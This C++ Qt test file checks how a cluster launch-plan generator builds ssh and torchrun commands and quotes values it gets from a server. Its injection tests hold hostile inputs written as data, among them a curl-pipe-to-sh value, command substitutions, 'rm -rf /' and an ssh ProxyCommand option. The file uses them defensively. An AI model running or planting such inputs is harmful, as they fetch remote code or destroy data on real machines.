// SPDX-License-Identifier: Apache-2.0

#include "core/cluster/launchplan.h"

#include "common/constvalue.h"

#include <QProcess>
#include <QStandardPaths>
#include <QTest>

using namespace Qt::StringLiterals;
using namespace sfdesk;

namespace {

LaunchPlan::Options trainingOptions()
{
    LaunchPlan::Options options;
    options.partitionName = u"training"_s;
    options.fabricName = u"europe-north1-a.fab2"_s;
    options.user = u"trainer"_s;
    options.gpusPerNode = 8;
    return options;
}

Instance instance(const QString& id, const QString& name, Instance::Status status, const QString& ip)
{
    Instance result;
    result.id = id;
    result.name = name;
    result.status = status;
    result.publicIp = ip;
    return result;
}

// Runs text as a bash script with no command on the PATH: ssh and torchrun print the words they
// were given, one "<word>" each, and any other command prints "notfound" and its words. A server
// value that got out of its word, out of a comment or into a command substitution shows there.
QString runInShell(const QString& script)
{
    const QString bash = QStandardPaths::findExecutable(u"bash"_s);
    if (bash.isEmpty())
        return u"bash is not installed"_s;
    // No raw string here: moc reads this file, and quotes inside one confuse it.
    const QString prelude = QString::fromUtf8(
        "set -u\n"
        "ssh() { printf 'ssh'; printf ' <%s>' \"$@\"; printf '\\n'; }\n"
        "torchrun() { printf 'torchrun'; printf ' <%s>' \"$@\"; printf '\\n'; }\n"
        "command_not_found_handle() { printf 'notfound'; printf ' <%s>' \"$@\"; printf '\\n'; }\n");
    QProcess shell;
    QProcessEnvironment environment;
    environment.insert(u"PATH"_s, u"/nonexistent"_s);
    environment.insert(u"LANG"_s, u"C.UTF-8"_s);
    shell.setProcessEnvironment(environment);
    shell.start(bash, {u"--noprofile"_s, u"--norc"_s, u"-s"_s});
    if (!shell.waitForStarted())
        return u"bash did not start"_s;
    shell.write((prelude + script).toUtf8());
    shell.closeWriteChannel();
    if (!shell.waitForFinished(30000) || shell.exitStatus() != QProcess::NormalExit)
        return u"bash did not finish"_s;
    return QString::fromUtf8(shell.readAllStandardOutput() + shell.readAllStandardError());
}

} // namespace

class TestLaunchPlan final : public QObject
{
    Q_OBJECT

private Q_SLOTS:
    void twoWorkers()
    {
        // Given out of order: rank 0 is the first by name, whatever order the server listed them in.
        const QList<LaunchPlan::Worker> workers{{u"worker-2"_s, u"inst_B"_s, u"10.0.0.12"_s, 22},
                                                {u"worker-1"_s, u"inst_A"_s, u"10.0.0.11"_s, 22}};
        const LaunchPlan::Options options = trainingOptions();

        QCOMPARE(LaunchPlan::hostfile(workers, options), u"10.0.0.11 slots=8\n10.0.0.12 slots=8\n"_s);
        QCOMPARE(LaunchPlan::torchrunLine(workers, 1, options),
                 u"NCCL_IB_HCA=mlx5 NCCL_SOCKET_IFNAME=^lo,docker NCCL_DEBUG=INFO torchrun --nnodes=2 "
                 "--node_rank=1 --master_addr=10.0.0.11 --master_port=29500 --nproc_per_node=8 train.py"_s);
        QCOMPARE(LaunchPlan::sshCommand(workers.first(), options), u"ssh trainer@10.0.0.12"_s);

        const QString expected =
            uR"(# Partition training on fabric europe-north1-a.fab2: 2 running worker(s), 8 GPU(s) each.

# hostfile
10.0.0.11 slots=8
10.0.0.12 slots=8

# NCCL over InfiniBand (each torchrun line below sets these too)
export NCCL_IB_HCA=mlx5
export NCCL_SOCKET_IFNAME=^lo,docker
export NCCL_DEBUG=INFO

# ssh to each worker, then run its torchrun line there

# node 0: worker-1 (inst_A)
ssh trainer@10.0.0.11
NCCL_IB_HCA=mlx5 NCCL_SOCKET_IFNAME=^lo,docker NCCL_DEBUG=INFO torchrun --nnodes=2 --node_rank=0 --master_addr=10.0.0.11 --master_port=29500 --nproc_per_node=8 train.py

# node 1: worker-2 (inst_B)
ssh trainer@10.0.0.12
NCCL_IB_HCA=mlx5 NCCL_SOCKET_IFNAME=^lo,docker NCCL_DEBUG=INFO torchrun --nnodes=2 --node_rank=1 --master_addr=10.0.0.11 --master_port=29500 --nproc_per_node=8 train.py
)"_s;
        QCOMPARE(LaunchPlan::document(workers, options), expected);
    }

    void eightWorkers()
    {
        QList<LaunchPlan::Worker> workers;
        for (int n = 8; n >= 1; --n)
            workers.append({u"node-%1"_s.arg(n), u"inst_%1"_s.arg(n), u"10.1.0.%1"_s.arg(n), 22});
        // One worker reached through a forwarded port, as its SSH details say.
        workers[0].sshPort = 2222;
        LaunchPlan::Options options = trainingOptions();
        options.user = u"ml"_s;
        options.masterPort = 29400;
        options.script = u"fine tune.py"_s;

        const QString nccl = u"NCCL_IB_HCA=mlx5 NCCL_SOCKET_IFNAME=^lo,docker NCCL_DEBUG=INFO"_s;
        const QString expected =
            uR"(# Partition training on fabric europe-north1-a.fab2: 8 running worker(s), 8 GPU(s) each.

# hostfile
10.1.0.1 slots=8
10.1.0.2 slots=8
10.1.0.3 slots=8
10.1.0.4 slots=8
10.1.0.5 slots=8
10.1.0.6 slots=8
10.1.0.7 slots=8
10.1.0.8 slots=8

# NCCL over InfiniBand (each torchrun line below sets these too)
export NCCL_IB_HCA=mlx5
export NCCL_SOCKET_IFNAME=^lo,docker
export NCCL_DEBUG=INFO

# ssh to each worker, then run its torchrun line there

# node 0: node-1 (inst_1)
ssh ml@10.1.0.1
NCCL torchrun --nnodes=8 --node_rank=0 --master_addr=10.1.0.1 --master_port=29400 --nproc_per_node=8 'fine tune.py'

# node 1: node-2 (inst_2)
ssh ml@10.1.0.2
NCCL torchrun --nnodes=8 --node_rank=1 --master_addr=10.1.0.1 --master_port=29400 --nproc_per_node=8 'fine tune.py'

# node 2: node-3 (inst_3)
ssh ml@10.1.0.3
NCCL torchrun --nnodes=8 --node_rank=2 --master_addr=10.1.0.1 --master_port=29400 --nproc_per_node=8 'fine tune.py'

# node 3: node-4 (inst_4)
ssh ml@10.1.0.4
NCCL torchrun --nnodes=8 --node_rank=3 --master_addr=10.1.0.1 --master_port=29400 --nproc_per_node=8 'fine tune.py'

# node 4: node-5 (inst_5)
ssh ml@10.1.0.5
NCCL torchrun --nnodes=8 --node_rank=4 --master_addr=10.1.0.1 --master_port=29400 --nproc_per_node=8 'fine tune.py'

# node 5: node-6 (inst_6)
ssh ml@10.1.0.6
NCCL torchrun --nnodes=8 --node_rank=5 --master_addr=10.1.0.1 --master_port=29400 --nproc_per_node=8 'fine tune.py'

# node 6: node-7 (inst_7)
ssh ml@10.1.0.7
NCCL torchrun --nnodes=8 --node_rank=6 --master_addr=10.1.0.1 --master_port=29400 --nproc_per_node=8 'fine tune.py'

# node 7: node-8 (inst_8)
ssh -p 2222 ml@10.1.0.8
NCCL torchrun --nnodes=8 --node_rank=7 --master_addr=10.1.0.1 --master_port=29400 --nproc_per_node=8 'fine tune.py'
)"_s;
        // The NCCL prefix is spelled out once above; every torchrun line carries it in full.
        QString full = expected;
        full.replace(u"\nNCCL torchrun"_s, u'\n' + nccl + u" torchrun"_s);
        QCOMPARE(LaunchPlan::document(workers, options), full);
        QCOMPARE(LaunchPlan::torchrunLine(workers, 8, options), QString());
        QCOMPARE(LaunchPlan::torchrunLine(workers, -1, options), QString());
    }

    void ranksFollowTheNamesNumbers()
    {
        QList<LaunchPlan::Worker> workers;
        for (const QString& name :
             {u"worker-10"_s, u"worker-9"_s, u"gpu-box"_s, u"worker-1"_s, u"worker-100"_s})
            workers.append({name, u"inst_"_s + name, {}, 22});
        workers.append({u"worker-9"_s, u"inst_a"_s, {}, 22});
        QStringList order;
        for (const LaunchPlan::Worker& worker : constValue(LaunchPlan::ordered(workers)))
            order << worker.id;
        QCOMPARE(order, (QStringList{u"inst_gpu-box"_s, u"inst_worker-1"_s, u"inst_a"_s, u"inst_worker-9"_s,
                                     u"inst_worker-10"_s, u"inst_worker-100"_s}));
    }

    void onlyRunningInstancesAreWorkers()
    {
        const QList<Instance> instances{
            instance(u"inst_w"_s, u"waiting"_s, Instance::Status::AwaitingAllocation, {}),
            instance(u"inst_r"_s, u"worker-1"_s, Instance::Status::Running, u"10.0.0.11"_s),
            instance(u"inst_t"_s, u"old"_s, Instance::Status::Terminated, u"10.0.0.9"_s),
            instance(u"inst_u"_s, {}, Instance::Status::Running, u"10.0.0.12"_s),
        };
        const QList<LaunchPlan::Worker> expected{{u"worker-1"_s, u"inst_r"_s, u"10.0.0.11"_s, 22},
                                                 {u"inst_u"_s, u"inst_u"_s, u"10.0.0.12"_s, 22}};
        QCOMPARE(LaunchPlan::runningWorkers(instances), expected);
    }

    void noRunningInstances()
    {
        const QList<LaunchPlan::Worker> none = LaunchPlan::runningWorkers(
            {instance(u"inst_w"_s, u"waiting"_s, Instance::Status::AwaitingAllocation, {}),
             instance(u"inst_t"_s, u"old"_s, Instance::Status::Terminated, u"10.0.0.9"_s)});
        QVERIFY(none.isEmpty());
        const LaunchPlan::Options options = trainingOptions();
        QCOMPARE(LaunchPlan::hostfile(none, options), QString());
        QCOMPARE(LaunchPlan::torchrunLine(none, 0, options), QString());
        QCOMPARE(LaunchPlan::document(none, options), QString());
    }

    // An instance whose address is not known yet gets a placeholder to fill in by hand (a word
    // with no meaning to a shell: "<address of ...>" redirected), and the master's placeholder
    // reaches every node's --master_addr.
    void workerWithoutAddress()
    {
        const QList<LaunchPlan::Worker> workers{{u"worker-1"_s, u"inst_A"_s, {}, 22},
                                                {u"worker-2"_s, u"inst_B"_s, u"10.0.0.12"_s, 22}};
        LaunchPlan::Options options = trainingOptions();
        options.gpusPerNode = 0;
        QCOMPARE(LaunchPlan::hostfile(workers, options), u"ADDRESS_OF_worker-1\n10.0.0.12\n"_s);
        QCOMPARE(LaunchPlan::sshCommand(workers.first(), options), u"ssh trainer@ADDRESS_OF_worker-1"_s);
        QCOMPARE(LaunchPlan::torchrunLine(workers, 1, options),
                 u"NCCL_IB_HCA=mlx5 NCCL_SOCKET_IFNAME=^lo,docker NCCL_DEBUG=INFO torchrun --nnodes=2 "
                 "--node_rank=1 --master_addr=ADDRESS_OF_worker-1 --master_port=29500 "
                 "--nproc_per_node=gpu train.py"_s);
        const QString document = LaunchPlan::document(workers, options);
        QVERIFY(
            document.startsWith(u"# Partition training on fabric europe-north1-a.fab2: 2 running worker(s), "
                                "GPUs per node unknown.\n"_s));
        QVERIFY(document.contains(
            u"\n# node 0: worker-1 (inst_A)\n# its address is not known yet: put it in place of "
            "ADDRESS_OF_worker-1\nssh trainer@ADDRESS_OF_worker-1\n"_s));
    }

    void usableHosts_data()
    {
        QTest::addColumn<QString>("host");
        QTest::addColumn<bool>("usable");
        QTest::newRow("IPv4") << u"10.0.0.12"_s << true;
        QTest::newRow("DNS name") << u"worker-1.example.com"_s << true;
        QTest::newRow("IPv6") << u"fe80::1"_s << true;
        QTest::newRow("IPv6 with a zone") << u"fe80::1%eth0"_s << false;
        QTest::newRow("empty") << QString() << false;
        QTest::newRow("semicolon") << u"10.0.0.5;curl -s https://x/p|sh;#"_s << false;
        QTest::newRow("command substitution") << u"$(reboot)"_s << false;
        QTest::newRow("backticks") << u"`id`"_s << false;
        QTest::newRow("space") << u"10.0.0.5 10.0.0.6"_s << false;
        QTest::newRow("quote") << u"host'"_s << false;
        QTest::newRow("leading dash") << u"-oProxyCommand=touch"_s << false;
        QTest::newRow("final newline") << u"10.0.0.5\n"_s << false;
        QTest::newRow("newline") << u"10.0.0.5\nreboot"_s << false;
        QTest::newRow("colons, not an address") << u"::::zz"_s << false;
        QTest::newRow("too long") << QString(254, u'a') << false;
    }
    void usableHosts()
    {
        QFETCH(QString, host);
        QFETCH(bool, usable);
        QCOMPARE(LaunchPlan::isUsableHost(host), usable);
    }

    // Names, ids and hosts from the server with spaces, quotes, $( ), backticks, ';', a leading
    // '-' and newlines: the document is exactly this, and run by a shell every value stays inside
    // its comment or its word (ssh and torchrun get exactly these words, nothing else runs).
    void hostileServerValuesAreInert()
    {
        const QList<LaunchPlan::Worker> workers{
            {u"worker-1"_s, u"inst_A"_s, u"10.0.0.11"_s, 22},
            {u"evil $(touch pwned) `id`; rm -rf ~\nreboot"_s, u"inst_B\rshutdown"_s,
             u"10.0.0.12;curl -s https://x/p|sh;#"_s, 22},
            {u"-rf 'quoted' \"double\""_s, u"inst_C"_s, u"-oProxyCommand=touch pwned"_s, 2222},
            {u"worker-4"_s, u"inst_D"_s, u"fe80::1"_s, 22},
            {u"worker-5"_s, u"inst_E"_s, u"10.0.0.15\n"_s, 22},
        };
        LaunchPlan::Options options;
        options.partitionName = u"training\nrm -rf /"_s;
        options.fabricName = u"fab`id`\u2028x"_s;
        options.user = u"it's me"_s;
        options.gpusPerNode = 8;
        options.script = u"train.py; rm -rf /"_s;

        const QString document = LaunchPlan::document(workers, options);
        const QString nccl = u"NCCL_IB_HCA=mlx5 NCCL_SOCKET_IFNAME=^lo,docker NCCL_DEBUG=INFO"_s;
        const QString torchrun =
            u" torchrun --nnodes=5 --node_rank=%1 --master_addr=ADDRESS_OF_-rf__quoted___double_ "
            "--master_port=29500 --nproc_per_node=8 'train.py; rm -rf /'"_s;
        QString expected = QString::fromUtf8(
            "# Partition training?rm -rf / on fabric fab`id`?x: 5 running worker(s), 8 GPU(s) each.\n"
            "\n"
            "# hostfile\n"
            "ADDRESS_OF_-rf__quoted___double_ slots=8\n"
            "ADDRESS_OF_evil___touch_pwned___id___rm_-rf___reboot slots=8\n"
            "10.0.0.11 slots=8\n"
            "fe80::1 slots=8\n"
            "ADDRESS_OF_worker-5 slots=8\n"
            "\n"
            "# NCCL over InfiniBand (each torchrun line below sets these too)\n"
            "export NCCL_IB_HCA=mlx5\n"
            "export NCCL_SOCKET_IFNAME=^lo,docker\n"
            "export NCCL_DEBUG=INFO\n"
            "\n"
            "# ssh to each worker, then run its torchrun line there\n"
            "\n"
            "# node 0: -rf 'quoted' \"double\" (inst_C)\n"
            "# the server gave no usable address (\"-oProxyCommand=touch pwned\"): put one in place of "
            "ADDRESS_OF_-rf__quoted___double_\n"
            "ssh -p 2222 'it'\\''s me'@ADDRESS_OF_-rf__quoted___double_\n"
            "TORCHRUN0\n"
            "\n"
            "# node 1: evil $(touch pwned) `id`; rm -rf ~?reboot (inst_B?shutdown)\n"
            "# the server gave no usable address (\"10.0.0.12;curl -s https://x/p|sh;#\"): put one in place "
            "of ADDRESS_OF_evil___touch_pwned___id___rm_-rf___reboot\n"
            "ssh 'it'\\''s me'@ADDRESS_OF_evil___touch_pwned___id___rm_-rf___reboot\n"
            "TORCHRUN1\n"
            "\n"
            "# node 2: worker-1 (inst_A)\n"
            "ssh 'it'\\''s me'@10.0.0.11\n"
            "TORCHRUN2\n"
            "\n"
            "# node 3: worker-4 (inst_D)\n"
            "ssh 'it'\\''s me'@fe80::1\n"
            "TORCHRUN3\n"
            "\n"
            "# node 4: worker-5 (inst_E)\n"
            "# the server gave no usable address (\"10.0.0.15?\"): put one in place of ADDRESS_OF_worker-5\n"
            "ssh 'it'\\''s me'@ADDRESS_OF_worker-5\n"
            "TORCHRUN4\n");
        for (int rank = 0; rank < 5; ++rank)
            expected.replace(u"TORCHRUN%1"_s.arg(rank), nccl + torchrun.arg(rank));
        QCOMPARE(document, expected);

        // What a shell makes of it: the hostfile's lines are no commands (not found), every other
        // line is ssh or torchrun with exactly its words.
        QString parsed;
        for (const QString& host : {u"ADDRESS_OF_-rf__quoted___double_"_s,
                                    u"ADDRESS_OF_evil___touch_pwned___id___rm_-rf___reboot"_s, u"10.0.0.11"_s,
                                    u"fe80::1"_s, u"ADDRESS_OF_worker-5"_s})
            parsed += u"notfound <%1> <slots=8>\n"_s.arg(host);
        const QStringList sshTargets{u"<-p> <2222> <it's me@ADDRESS_OF_-rf__quoted___double_>"_s,
                                     u"<it's me@ADDRESS_OF_evil___touch_pwned___id___rm_-rf___reboot>"_s,
                                     u"<it's me@10.0.0.11>"_s, u"<it's me@fe80::1>"_s,
                                     u"<it's me@ADDRESS_OF_worker-5>"_s};
        for (int rank = 0; rank < 5; ++rank)
            parsed += u"ssh %1\ntorchrun <--nnodes=5> <--node_rank=%2> "
                      "<--master_addr=ADDRESS_OF_-rf__quoted___double_> <--master_port=29500> "
                      "<--nproc_per_node=8> <train.py; rm -rf />\n"_s.arg(sshTargets[rank])
                          .arg(rank);
        QCOMPARE(runInShell(document), parsed);
    }

    // A user name that starts with '-' is given with -l, where ssh cannot read it as an option.
    void userNameThatLooksLikeAnOption()
    {
        LaunchPlan::Options options = trainingOptions();
        options.user = u"-oProxyCommand=touch pwned"_s;
        const LaunchPlan::Worker worker{u"worker-1"_s, u"inst_A"_s, u"10.0.0.11"_s, 22};
        QCOMPARE(LaunchPlan::sshCommand(worker, options), u"ssh -l '-oProxyCommand=touch pwned' 10.0.0.11"_s);
        QCOMPARE(runInShell(LaunchPlan::sshCommand(worker, options)),
                 u"ssh <-l> <-oProxyCommand=touch pwned> <10.0.0.11>\n"_s);
        options.user.clear();
        QCOMPARE(LaunchPlan::sshCommand(worker, options), u"ssh 10.0.0.11"_s);
    }
};

QTEST_GUILESS_MAIN(TestLaunchPlan)
#include "tst_launchplan.moc"
